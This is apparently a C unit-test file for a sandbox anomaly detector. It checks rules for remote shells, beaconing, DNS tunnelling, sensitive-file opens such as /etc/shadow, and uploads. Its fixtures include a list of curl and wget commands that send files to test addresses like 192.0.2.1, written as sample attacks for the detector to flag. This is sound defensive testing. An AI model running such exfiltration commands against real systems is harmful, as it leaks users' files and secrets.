// SPDX-License-Identifier: Apache-2.0
// Each tripwire is raised at its threshold and not below, and repeated events are reported once.
#include "tests/harness/anomaly_box.h"

#include <errno.h>
#include <math.h>
#include <stdlib.h>
#include <sys/syscall.h>

#include "server/anomaly/sensitive.h"
#include "server/relay/relay.h"

static void
truncated_events_and_unknown_kinds_are_ignored(void **state)
{
    (void)state;
    const uint8_t body[512] = {0};
    for (uint32_t kind = 0; kind < EVENT_KINDS + 3; kind++)
        if (kind != EVENT_OOM && kind != EVENT_EXIT && kind != EVENT_SIGNAL)
            for (size_t n = 0; n < 12; n++)
                event(kind, body, n);
    for (int i = 0; i < ANOMALY_RULES; i++)
        assert_int_equal(raised[i], 0);
}

static void
disabled_rules_are_not_raised(void **state)
{
    (void)state;
    for (int i = 0; i < ANOMALY_RULES; i++)
        policy.rule[i].enabled = 2;
    event(EVENT_OOM, NULL, 0);
    exec_path("/x", true, BOX_EXE_NEW, 1);
    for (uint8_t i = 0; i < 64; i++)
        dial(EVENT_DENIED, i, 80);
    for (int i = 0; i < ANOMALY_RULES; i++)
        assert_int_equal(raised[i], 0);
}

static void
eight_refused_destinations_are_a_fan_out_and_seven_are_not(void **state)
{
    (void)state;
    for (int again = 0; again < 50; again++)
        for (uint8_t host = 0; host < 7; host++)
            dial(EVENT_DENIED, host, 443);
    for (uint8_t host = 0; host < 100; host++)
        dial(EVENT_CONNECT, host, 443); // allowed
    assert_int_equal(raised[RULE_DENIED_FAN_OUT], 0);
    dial(EVENT_DENIED, 0, 80); // another port is another destination
    assert_int_equal(raised[RULE_DENIED_FAN_OUT], 1);
    assert_non_null(strstr(said, "192.0.2.0:80"));
    for (uint16_t port = 1; port < 1000; port++)
        dial(EVENT_DENIED, 1, port);
    assert_int_equal(raised[RULE_DENIED_FAN_OUT], 1);
    now_ns += 61 * S; // old ones do not count
    for (uint8_t host = 0; host < 7; host++)
        dial(EVENT_DENIED, host, 443);
    assert_int_equal(raised[RULE_DENIED_FAN_OUT], 1);
    dial(EVENT_DENIED, 7, 443);
    assert_int_equal(raised[RULE_DENIED_FAN_OUT], 2);
}

static void
a_dangerous_call_is_reported_once_with_its_name_and_result(void **state)
{
    (void)state;
    struct watch_syscall call = {.number = SYS_mount, .result = -1};
    for (int i = 0; i < 1000; i++)
        event(EVENT_DANGEROUS, &call, sizeof call);
    assert_int_equal(raised[RULE_REFUSED_CALL], 1);
    assert_int_equal(raised[RULE_DANGEROUS_SYSCALL], 0);
    assert_string_equal(said, "mount was called, and refused: EPERM");
    call = (struct watch_syscall){.number = SYS_ptrace};
    event(EVENT_DANGEROUS, &call, sizeof call);
    assert_int_equal(raised[RULE_DANGEROUS_SYSCALL], 1);
    assert_string_equal(said, "ptrace was called");
    call.number = SYS_io_uring_setup;
    event(EVENT_URING, &call, sizeof call);
    event(EVENT_URING, &call, sizeof call);
    assert_int_equal(raised[RULE_IO_URING], 1);
}

static void
every_sensitive_path_fits_into_the_table(void **state)
{
    (void)state;
    static struct sensitive_table table;
    static struct sensitive_config config;
    struct err e;
    uint32_t n = 0;
    for (; anomaly_sensitive_at(n) != NULL; n++) {
        assert_int_equal(anomaly_sensitive_check(anomaly_sensitive_at(n), &e), 0);
        assert_int_equal(anomaly_sensitive_find(anomaly_sensitive_at(n)), n);
    }
    assert_in_range(n, 1, WATCH_SENSITIVE);
    for (; config.own_n < SENSITIVE_OWN_MAX; config.own_n++)
        (void)snprintf(config.own[config.own_n], SENSITIVE_PATTERN_MAX, "/some/where/%u",
                       config.own_n);
    assert_int_equal(anomaly_sensitive_fill(&table, &config), 0);
}

static void
only_a_new_executable_is_new_and_a_file_without_a_name_is_worse(void **state)
{
    (void)state;
    exec_path("/usr/bin/ls", false, BOX_EXE_KNOWN, 1);
    assert_int_equal(raised[RULE_NEW_EXECUTABLE], 0);
    exec_path("/tmp/\x1b[31m", false, BOX_EXE_NEW, 2);
    exec_path("/tmp/\x1b[31m", false, BOX_EXE_NEW, 2);
    assert_int_equal(raised[RULE_NEW_EXECUTABLE], 1);
    assert_null(strchr(said, '\x1b'));
    exec_path("/tmp/x", false, BOX_EXE_NEW, 3);
    assert_int_equal(raised[RULE_NEW_EXECUTABLE], 2);
    exec_path("/proc/self/fd/3", true, BOX_EXE_KNOWN, 4);
    assert_int_equal(raised[RULE_UNNAMED_EXEC], 1);
    assert_int_equal(raised[RULE_NEW_EXECUTABLE], 2);
}

static void
a_file_without_a_name_run_by_an_interpreter_counts_as_executed(void **state)
{
    (void)state;
    struct watch_exec x = {
        .path_n = 7, .path = "/bin/sh", .args_n = 16, .argv = "sh\0/dev/fd/63 x"};
    struct event e = {.time_ns = now_ns, .kind = EVENT_EXEC, .size = sizeof x};
    give(&e, &x, BOX_EXE_KNOWN); // a pipe of the shell
    memcpy(x.argv, "sh\0/dev/fd/5 x", 15);
    x.nameless = 1 << 4;
    give(&e, &x, BOX_EXE_KNOWN);
    assert_int_equal(raised[RULE_UNNAMED_EXEC], 0);
    x.nameless = 1 << 5;
    give(&e, &x, BOX_EXE_KNOWN);
    assert_int_equal(raised[RULE_UNNAMED_EXEC], 1);
}

static void
a_call_of_another_abi_is_named_as_such(void **state)
{
    (void)state;
    struct watch_syscall call = {.number = 11, .result = -38, .arch = 0x40000003};
    event(EVENT_DANGEROUS, &call, sizeof call);
    assert_non_null(strstr(said, "a system call of another ABI, i386 (int 0x80), was called"));
    call =
        (struct watch_syscall){.number = 0x40000000 | SYS_mount, .result = -38, .arch = 0xc000003e};
    event(EVENT_DANGEROUS, &call, sizeof call);
    assert_non_null(strstr(said, "mount of another ABI, x32, was called"));
    assert_int_equal(raised[RULE_DANGEROUS_SYSCALL], 2);
}

static void
a_shell_on_a_socket_and_a_file_without_a_name_are_reported_once(void **state)
{
    (void)state;
    struct watch_exec x = {.exe = {.inode = 9}, .socket = 1, .path_n = 8, .path = "/bin/\x1b[m"};
    struct event e = {.time_ns = now_ns, .kind = EVENT_EXEC, .size = sizeof x};
    for (int i = 0; i < 100; i++)
        give(&e, &x, BOX_EXE_KNOWN);
    assert_int_equal(raised[RULE_REMOTE_SHELL], 1);
    assert_int_equal(raised[RULE_UNNAMED_EXEC] + raised[RULE_NEW_EXECUTABLE], 0);
    assert_non_null(strstr(said, "with sockets as its stdin and stdout"));
    assert_null(strchr(said, '\x1b'));
    x.memfd = 1;
    give(&e, &x, BOX_EXE_NEW);
    assert_int_equal(raised[RULE_UNNAMED_EXEC], 1);
    assert_int_equal(raised[RULE_REMOTE_SHELL], 1);
}

static void
an_unusual_socket_is_reported_with_its_kind(void **state)
{
    (void)state;
    struct watch_syscall call = {.number = SYS_socket, .result = -1, .args = {17, 3 | 02000000}};
    event(EVENT_DANGEROUS, &call, sizeof call);
    assert_int_equal(raised[RULE_REFUSED_SOCKET], 1);
    assert_string_equal(said, "socket(family 17, type 3) was called, and refused: EPERM");
}

static void
each_sensitive_path_is_reported_once(void **state)
{
    (void)state;
    struct watch_open o = {.path_n = 11, .path = "/etc/shadowXXXX"};
    o.rule = (uint32_t)anomaly_sensitive_find("/etc/shadow");
    for (int i = 0; i < 10; i++)
        event(EVENT_OPEN, &o, sizeof o);
    assert_int_equal(raised[RULE_SENSITIVE_PATH], 1);
    assert_string_equal(said, "\"/etc/shadow\" was opened");
    o.result = -EACCES;
    for (int i = 0; i < 10; i++)
        event(EVENT_OPEN, &o, sizeof o);
    assert_int_equal(raised[RULE_SENSITIVE_PATH], 2); // both are reported, whichever comes first
    assert_string_equal(said, "an open of \"/etc/shadow\" failed: EACCES");
    o.op = WATCH_FILE_UNLINK;
    event(EVENT_OPEN, &o, sizeof o);
    assert_string_equal(said, "a removal of \"/etc/shadow\" failed: EACCES");
    o.op = WATCH_FILE_OPEN;
    o.result = 0;
    raised[RULE_SENSITIVE_PATH] = 1;
    o.path_n = 4000; // more than the buffer has
    event(EVENT_OPEN, &o, sizeof o);
    assert_int_equal(raised[RULE_SENSITIVE_PATH], 2);
}

static void
every_oom_kill_is_reported(void **state)
{
    (void)state;
    event(EVENT_OOM, NULL, 0);
    now_ns += S;
    event(EVENT_OOM, NULL, 0);
    assert_int_equal(raised[RULE_OOM], 2);
}

static void
a_profile_event_is_reported_with_its_figures_once_per_window(void **state)
{
    (void)state;
    struct watch_score s = {.profile = 3, .unseen = 7, .window = 200, .last = {0, 1, 2}};
    event(EVENT_PROFILE, &s, sizeof s);
    assert_int_equal(raised[RULE_UNSEEN_SEQUENCE], 0);
    s.unseen = 8;
    event(EVENT_PROFILE, &s, sizeof s);
    event(EVENT_PROFILE, &s, sizeof s);
    assert_int_equal(raised[RULE_UNSEEN_SEQUENCE], 1);
    assert_non_null(strstr(said, "8 of 200"));
}

static void
a_first_refusal_of_a_call_is_reported_once(void **state)
{
    (void)state;
    struct watch_score s = {.profile = 3, .last = {WATCH_REFUSED, WATCH_REFUSED, SYS_mount}};
    for (int i = 0; i < 100; i++)
        event(EVENT_PROFILE, &s, sizeof s);
    assert_int_equal(raised[RULE_NEW_REFUSAL], 1);
    assert_int_equal(raised[RULE_UNSEEN_SEQUENCE], 0);
    assert_string_equal(said, "mount of \"job\" was refused for the first time");
    s.last[2] = SYS_bpf;
    event(EVENT_PROFILE, &s, sizeof s);
    assert_int_equal(raised[RULE_NEW_REFUSAL], 2);
}

static void
only_regular_connections_are_a_beacon(void **state)
{
    (void)state;
    for (int i = 0; i < 40; i++) { // 1 to 5 s
        now_ns += (uint64_t)(1 + i * 7 % 5) * S;
        dial(EVENT_CONNECT, 1, 443);
    }
    for (int i = 0; i < 100; i++) { // a tight loop counts as work
        now_ns += 50 * MS;
        dial(EVENT_CONNECT, 2, 443);
    }
    assert_int_equal(raised[RULE_BEACONING], 0);
    for (int i = 0; i < 7; i++) {
        now_ns += 10 * S + (uint64_t)(i % 3) * 300 * MS;
        dial(EVENT_DENIED, 3, 443); // refused connections are regular as well
    }
    assert_int_equal(raised[RULE_BEACONING], 0);
    now_ns += 10 * S;
    dial(EVENT_DENIED, 3, 443);
    assert_int_equal(raised[RULE_BEACONING], 1);
    assert_true(score > 95 && score <= 100);
    for (int i = 0; i < 20; i++) {
        now_ns += 10 * S;
        dial(EVENT_DENIED, 3, 443);
    }
    assert_int_equal(raised[RULE_BEACONING], 1);
}

// ---- names

static void
lookup(const char *name, uint32_t kind)
{
    struct relay_report r = {.kind = kind, .time_ns = now_ns};
    (void)snprintf(r.name, sizeof r.name, "%s", name);
    box_relay(&box, &r);
}

static void
common_names_are_not_a_tunnel(void **state)
{
    (void)state;
    static const char *const names[] = {
        "pypi.org",
        "files.pythonhosted.org",
        "registry.npmjs.org",
        "github.com",
        "objects.githubusercontent.com",
        "static.crates.io",
        "deb.debian.org",
        "production.cloudflare.docker.com",
        "a",
        "",
        ".",
        "..",
        "....",
        "x.",
    };
    for (int i = 0; i < 500; i++)
        for (size_t k = 0; k < sizeof names / sizeof names[0]; k++)
            lookup(names[k], RELAY_LOOKUP);
    assert_int_equal(raised[RULE_DNS_TUNNEL], 0);
}

static void
data_in_refused_names_is_also_a_tunnel(void **state)
{
    (void)state;
    for (uint32_t kind = RELAY_DENIED; kind <= RELAY_LOOKUP; kind++) {
        set_up(state);
        char name[128];
        unsigned n = 0;
        for (uint32_t i = 0; raised[RULE_DNS_TUNNEL] == 0 && i < 100; i++, n++) {
            uint64_t x = (i + 1) * 0x9e3779b97f4a7c15ULL;
            (void)snprintf(name, sizeof name, "%016" PRIx64 "%016" PRIx64 ".t.example.org", x,
                           x * x);
            lookup(name, kind);
            lookup(name, kind); // the same name again carries no data
        }
        assert_int_equal(raised[RULE_DNS_TUNNEL], 1);
        assert_int_equal(n, (1000 + 33) / 34);
        assert_non_null(strstr(said, "example.org"));
    }
}

// ---- bounds

static void
a_sandbox_cannot_flood_the_findings(void **state)
{
    (void)state;
    for (uint64_t i = 0; i < 10000; i++)
        exec_path("/tmp/x", false, BOX_EXE_NEW, i + 1);
    assert_int_equal(raised[RULE_NEW_EXECUTABLE], BOX_FINDINGS_BURST);
    assert_int_equal(counted[RULE_NEW_EXECUTABLE], 10000 - BOX_FINDINGS_BURST);
    now_ns += 60 * S;
    exec_path("/tmp/x", false, BOX_EXE_NEW, 99999);
    assert_int_equal(raised[RULE_NEW_EXECUTABLE], BOX_FINDINGS_BURST + 1);
}

static void
findings_of_one_rule_do_not_suppress_another(void **state)
{
    (void)state;
    for (uint64_t minute = 0; minute < 3; minute++) {
        for (uint64_t i = 0; i < 1000; i++)
            exec_path("/tmp/x", false, BOX_EXE_NEW, 1000 * minute + i + 1);
        event(EVENT_OOM, NULL, 0);
        now_ns += S;
        event(EVENT_OOM, NULL, 0); // the second of this minute, beyond the bound
        assert_int_equal(raised[RULE_OOM], minute + 1);
        now_ns += 60 * S;
    }
    exec_path("/proc/self/fd/3", true, BOX_EXE_KNOWN, 1);
    assert_int_equal(raised[RULE_UNNAMED_EXEC], 1);
}

static void
a_sandbox_takes_a_few_kilobytes(void **state)
{
    (void)state;
    assert_in_range(sizeof(struct box), 1, 8192);
    assert_in_range(sizeof(struct box_job), 1, 2560);
}

static void
every_rule_has_a_name_and_bounds_that_include_its_defaults(void **state)
{
    (void)state;
    for (int i = 0; i < ANOMALY_RULES; i++) {
        const struct anomaly_rule_row *r = &anomaly_rule_table[i];
        assert_int_equal(anomaly_rule_find(r->name), i);
        assert_in_range(r->usual.threshold, r->threshold_min, r->threshold_max);
        assert_in_range(r->usual.window_ms, r->window_min_ms, r->window_max_ms);
        assert_in_range(strlen(r->name), 1, 64);
        assert_non_null(finding_severity_name(r->usual.severity));
        assert_non_null(finding_response_name(r->usual.response));
        assert_true(r->window_min_ms >= BOX_BUCKETS);
    }
    assert_int_equal(anomaly_rule_find("nothing"), -1);
    assert_int_equal(finding_response_find("kill"), RESPONSE_KILL);
    assert_int_equal(finding_response_find("KILL"), 0);
    assert_int_equal(finding_severity_find("critical"), SEVERITY_CRITICAL);
}

static void
a_template_inherits_missing_values_from_the_host(void **state)
{
    (void)state;
    struct anomaly_config own = {.rule[RULE_OOM] = {.response = RESPONSE_KILL}};
    anomaly_config_inherit(&own, &policy);
    assert_int_equal(own.rule[RULE_OOM].response, RESPONSE_KILL);
    assert_int_equal(own.rule[RULE_OOM].threshold, policy.rule[RULE_OOM].threshold);
    assert_int_equal(own.rule[RULE_MINING].enabled, 1);
    assert_int_equal(own.learn, 1);
}

static void
a_terminal_connected_to_outside_is_a_remote_shell(void **state)
{
    (void)state;
    struct watch_terminal t = {.shell = 7, .comm = "s\nh"};
    event(EVENT_TERMINAL, &t, sizeof t);
    assert_int_equal(raised[RULE_REMOTE_SHELL], 1);
    assert_non_null(strstr(said, "\"s\\u000ah\" (7)"));
    assert_non_null(strstr(said, "\"job\""));
    event(EVENT_TERMINAL, &t, sizeof t - 1);
    assert_int_equal(answered[RULE_REMOTE_SHELL], 1);
}

static void
a_library_of_the_sandbox_is_not_a_sensitive_path(void **state)
{
    (void)state;
    struct watch_open o = {.op = WATCH_FILE_PRELOAD, .resolved_n = 7, .resolved = "/tmp/x."};
    event(EVENT_OPEN, &o, sizeof o);
    assert_int_equal(raised[RULE_PRELOADED_LIBRARY], 1);
    assert_int_equal(raised[RULE_SENSITIVE_PATH], 0);
    assert_non_null(strstr(said, "\"/tmp/x.\" was put into a program"));
}

static void
a_listener_is_named_by_its_address(void **state)
{
    (void)state;
    struct net_event e = {
        .address = {[10] = 0xff, [11] = 0xff}, .port = 8000, .hook = NET_HOOK_LISTEN};
    event(EVENT_LISTEN, &e, sizeof e);
    event(EVENT_LISTEN, &e, sizeof e);
    assert_int_equal(raised[RULE_OPEN_LISTENER], 1);
    assert_int_equal(raised[RULE_DENIED_FAN_OUT], 0);
    assert_non_null(strstr(said, "0.0.0.0:8000"));
    e.port++;
    event(EVENT_LISTEN, &e, sizeof e);
    assert_int_equal(raised[RULE_OPEN_LISTENER], 2);
}

// An exec of a program with words that are joined by '|'.
static unsigned
uploads(const char *path, const char *words)
{
    static uint64_t inode;
    struct watch_exec x = {.exe = {.inode = ++inode}, .path_n = (uint32_t)strlen(path)};
    const unsigned before = raised[RULE_UPLOAD_TO_ADDRESS];
    memcpy(x.path, path, strlen(path));
    x.args_n = (uint32_t)strlen(words) + 1;
    memcpy(x.argv, words, strlen(words));
    for (uint32_t i = 0; i < x.args_n; i++)
        if (x.argv[i] == '|')
            x.argv[i] = '\0';
    now_ns += 120 * S;
    event(EVENT_EXEC, &x, sizeof x);
    return raised[RULE_UPLOAD_TO_ADDRESS] - before;
}

static void
a_file_that_is_sent_to_an_address_is_a_finding(void **state)
{
    static const char *const work[] = {"curl|-T|f|https://files.example.org/up",
                                       "curl|-T|f|http://127.0.0.1:80/",
                                       "curl|http://192.0.2.1/",
                                       "curl|-T|f|http://[::1]:80/",
                                       "curl|-d|a=1|http://192.0.2.1/",
                                       "curl|-fsSL|http://192.0.2.1/x",
                                       "curl|-HFrom: a@b|http://192.0.2.1",
                                       "curl|-T|f|http://1drv.ms/192.0.2.1",
                                       "curl|-T|f|http://192.0.2.1.example.org/",
                                       "curl|-T|f|http://192.0.2/",
                                       "curl",
                                       "curl|",
                                       "curl|-T|f|http://999.0.2.1/",
                                       "curl|-T|f|http://[]/",
                                       "curl|-T|f|://@[",
                                       "curl|-o|T|http://192.0.2.1/"};
    static const char *const attacks[] = {"curl|-T|f|http://192.0.2.1/up",
                                          "curl|-s|-m|1|-T|out.b64|http://192.0.2.10/up",
                                          "curl|-sT|f|192.0.2.1:8080/x",
                                          "curl|--upload-file=f|http://u:p@192.0.2.1/",
                                          "curl|-F|f=@x|http://[2001:db8::1]:80/",
                                          "curl|-d|@f|http://192.0.2.1",
                                          "curl|--data-binary|@f|http://192.0.2.1",
                                          "curl|http://192.0.2.1|-T|f"};
    (void)state;
    for (size_t i = 0; i < sizeof work / sizeof work[0]; i++)
        assert_int_equal(uploads("/usr/bin/curl", work[i]), 0);
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
        assert_int_equal(uploads("/usr/bin/curl", attacks[i]), 1);
    assert_int_equal(uploads("wget", "wget|--post-file=f|http://192.0.2.1/"), 1);
    assert_int_equal(uploads("/usr/bin/wget", "wget|-T|1|http://192.0.2.1/"), 0);
    assert_int_equal(uploads("/usr/bin/echo", "curl|-T|f|http://192.0.2.1/"), 0);
    assert_int_equal(uploads("/usr/bin/curl", "curl|-T|f|http://192.0.2.1/\x1b[31m"), 1);
    assert_null(strchr(said, '\x1b'));
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup(a_file_without_a_name_run_by_an_interpreter_counts_as_executed,
                               set_up),
        cmocka_unit_test_setup(a_file_that_is_sent_to_an_address_is_a_finding, set_up),
        cmocka_unit_test_setup(a_call_of_another_abi_is_named_as_such, set_up),
        cmocka_unit_test_setup(truncated_events_and_unknown_kinds_are_ignored, set_up),
        cmocka_unit_test_setup(disabled_rules_are_not_raised, set_up),
        cmocka_unit_test_setup(eight_refused_destinations_are_a_fan_out_and_seven_are_not, set_up),
        cmocka_unit_test_setup(a_dangerous_call_is_reported_once_with_its_name_and_result, set_up),
        cmocka_unit_test_setup(every_sensitive_path_fits_into_the_table, set_up),
        cmocka_unit_test_setup(only_a_new_executable_is_new_and_a_file_without_a_name_is_worse,
                               set_up),
        cmocka_unit_test_setup(a_shell_on_a_socket_and_a_file_without_a_name_are_reported_once,
                               set_up),
        cmocka_unit_test_setup(an_unusual_socket_is_reported_with_its_kind, set_up),
        cmocka_unit_test_setup(each_sensitive_path_is_reported_once, set_up),
        cmocka_unit_test_setup(every_oom_kill_is_reported, set_up),
        cmocka_unit_test_setup(a_profile_event_is_reported_with_its_figures_once_per_window,
                               set_up),
        cmocka_unit_test_setup(a_first_refusal_of_a_call_is_reported_once, set_up),
        cmocka_unit_test_setup(only_regular_connections_are_a_beacon, set_up),
        cmocka_unit_test_setup(common_names_are_not_a_tunnel, set_up),
        cmocka_unit_test_setup(data_in_refused_names_is_also_a_tunnel, set_up),
        cmocka_unit_test_setup(a_sandbox_cannot_flood_the_findings, set_up),
        cmocka_unit_test_setup(findings_of_one_rule_do_not_suppress_another, set_up),
        cmocka_unit_test_setup(a_sandbox_takes_a_few_kilobytes, set_up),
        cmocka_unit_test_setup(every_rule_has_a_name_and_bounds_that_include_its_defaults, set_up),
        cmocka_unit_test_setup(a_template_inherits_missing_values_from_the_host, set_up),
        cmocka_unit_test_setup(a_terminal_connected_to_outside_is_a_remote_shell, set_up),
        cmocka_unit_test_setup(a_library_of_the_sandbox_is_not_a_sensitive_path, set_up),
        cmocka_unit_test_setup(a_listener_is_named_by_its_address, set_up),
    };
    return cmocka_run_group_tests(tests, NULL, tear_down);
}
